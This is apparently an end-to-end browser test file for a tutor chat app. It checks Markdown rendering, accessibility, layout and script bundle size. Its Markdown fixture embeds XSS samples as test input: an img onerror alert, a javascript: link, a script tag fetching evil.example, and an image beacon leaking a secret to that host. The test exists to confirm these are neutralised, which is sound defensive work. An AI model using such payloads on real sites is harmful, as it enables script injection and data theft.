import { gzipSync } from 'node:zlib'
import type { Browser, Page } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { axeFindings, openBrowser, picture, profile, signUp } from '../support/browser.ts'
import { loopbackProvider, sse, streaming, type LoopbackProvider } from '../support/provider.ts'
import { served, type Served } from '../support/served.ts'

/** All that Markdown may be, and all that it may not do. */
const RICH = `# How bees keep warm

They **cluster** and *shiver*; see [this page](https://example.org/bees). A hive costs $5 to $10.

![a beacon](https://evil.example/p.png?secret=1) <img src="https://evil.example/q.png" onerror="alert(1)">
[run me](javascript:alert(1)) <script>fetch('https://evil.example')</script>

- [x] read
- [ ] look into a hive

| Month | Degrees in the middle of the cluster | What the colony lives on, week after week |
|---|--:|---|
| January | 35 | Honey that was stored in late summer |

\`\`\`python
def warmth(bees: int) -> float:
    # every bee gives off a little warmth, and all of them together quite a lot of it in the end
    return bees * 0.01
\`\`\`

\\[ Q = \\frac{m c \\Delta T}{2} \\]

> Inline $x^2$ as well.
`

let browser: Browser
let app: Served
let provider: LoopbackProvider
let state: Awaited<ReturnType<Awaited<ReturnType<typeof profile>>['storageState']>>
const places: Record<string, string> = {}

async function begin(page: Page, text: string): Promise<string> {
  await page.goto(`${app.url}/tutor/new`)
  await page.getByLabel('Your message').fill(text)
  await page.getByRole('button', { name: 'Send' }).click()
  await page.waitForURL(/\/tutor\/[0-9a-f-]{36}/)
  return new URL(page.url()).pathname
}

beforeAll(async () => {
  browser = await openBrowser()
  provider = await loopbackProvider(streaming(RICH))
  app = await served({ AI_BASE_URL: provider.url })
  const context = await profile(browser)
  const page = await context.newPage()
  await signUp(page, app.url)
  places['whole'] = await begin(page, 'How do bees keep warm in winter?')
  await page.getByRole('button', { name: 'Answer again' }).waitFor()
  provider.answer((res) => {
    sse.start(res)
    sse.text(res, 'It begins like **this** and goes on\n\n```js\nconst a')
  })
  places['written'] = await begin(page, 'Tell me everything about hornets')
  await page.getByText('const a').waitFor()
  state = await context.storageState()
  await context.close()
})

afterAll(async () => {
  await browser.close()
  await app[Symbol.asyncDispose]()
  await provider.close()
})

const VIEWS = [
  { name: 'light-1280', width: 1280, dark: false },
  { name: 'dark-390', width: 390, dark: true },
  { name: 'light-360', width: 360, dark: false },
]

const READY: Record<string, (page: Page) => Promise<void>> = {
  whole: async (page) => {
    await page.locator('math').first().waitFor()
    await page.getByRole('button', { name: /Copy the code/ }).waitFor()
  },
  written: (page) => page.getByText('const a').waitFor(),
}

describe.each(VIEWS)('at $name', ({ name: view, ...options }) => {
  it.each(['whole', 'written'])('%s: no axe finding, nothing fetched elsewhere', async (name) => {
    await using context = await profile(browser, { ...options, state })
    const page = await context.newPage()
    const seen: string[] = []
    page.on('request', (request) => {
      if (!request.url().startsWith(app.url) && !request.url().startsWith('data:')) seen.push(request.url())
    })
    page.on('console', (message) => message.type() === 'error' && seen.push(message.text()))
    page.on('pageerror', (error) => seen.push(error.message))
    await page.goto(`${app.url}${places[name] ?? '/'}`, { waitUntil: 'commit' })
    await page.getByRole('heading', { level: 1 }).first().waitFor()
    await READY[name]?.(page)
    expect(await page.evaluate(() => document.documentElement.scrollWidth - window.innerWidth)).toBeLessThanOrEqual(0)
    await picture(page, `tutor-${name}-${view}`)
    expect(seen).toEqual([])
    expect(await axeFindings(page)).toEqual([])
  })
})

it('asks for less than 130 kB of script before what draws Markdown', async () => {
  await using context = await profile(browser, { state })
  const page = await context.newPage()
  const html = await (await context.request.get(`${app.url}${places['whole']}`)).text()
  const preloaded = [...html.matchAll(/rel="modulepreload" href="([^"]+)"/g)].map(([, path]) => path ?? '')
  const sizes = preloaded.map(async (path) => gzipSync(await (await page.request.get(app.url + path)).body()).length)
  const bytes = (await Promise.all(sizes)).reduce((sum, n) => sum + n, 0)
  expect(bytes).toBeGreaterThan(50_000)
  expect(bytes).toBeLessThan(130_000)
})
